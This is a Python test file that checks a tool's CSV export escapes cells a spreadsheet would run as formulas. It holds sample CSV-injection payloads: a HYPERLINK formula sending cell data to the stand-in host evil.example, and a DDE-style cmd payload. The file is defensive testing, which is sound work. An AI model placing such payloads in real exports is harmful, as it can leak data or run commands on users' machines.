"""CSV exports: cells a spreadsheet would run as formulas get a leading quote (issue 12.9)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
from click.testing import CliRunner

from radpulse.cli.main import cli
from radpulse.db.engine import open_database
from radpulse.db.store import upsert_posts
from radpulse.export_safety import neutralise_formulas
from radpulse.records import PostRecord

WHEN = dt.datetime(2026, 11, 18, 12, tzinfo=dt.timezone.utc)
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]


def test_every_formula_prefix_is_neutralised_and_other_cells_are_kept():
    frame = pd.DataFrame({"text": [*FORMULAS, "plain text", "a = b", None], "score": [-3, 1, 2, 3, 4, 5, 6, 7, 8]})
    safe = neutralise_formulas(frame)
    assert list(safe["text"][:6]) == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert list(safe["text"][6:8]) == ["plain text", "a = b"] and pd.isna(safe["text"][8])
    assert list(safe["score"]) == [-3, 1, 2, 3, 4, 5, 6, 7, 8]  # numbers stay numbers, negative ones too
    assert frame["text"][0] == FORMULAS[0]  # the caller's frame is not changed


def test_csv_export_writes_no_cell_that_starts_a_formula(tmp_path):
    url = f"sqlite:///{tmp_path / 'r.db'}"
    db = open_database(url)
    posts = [PostRecord("reddit", f"p{i}", text, WHEN, title=text, author_external_id=f"u{i}", score=-5)
             for i, text in enumerate(FORMULAS)]
    posts.append(PostRecord("reddit", "ok", "An ordinary post about CT", WHEN, title="CT", author_external_id="u9"))
    with db.engine.begin() as conn:
        upsert_posts(conn, posts)
    db.dispose()
    result = CliRunner().invoke(cli, ["--database-url", url, "export", "posts", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(posts)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or column in ("score", "engagement"), (column, cell)  # numbers
    by_id = {r["text"]: r for r in rows}
    assert sum(text.startswith("'") for text in by_id) == len(FORMULAS), list(by_id)
    assert "'" + FORMULAS[0] in by_id and all(r["title"].startswith("'") for r in rows if r["title"] != "CT")
    assert {float(r["score"]) for r in rows if r["title"] != "CT"} == {-5.0}  # numeric cells untouched
    assert "An ordinary post about CT" in by_id
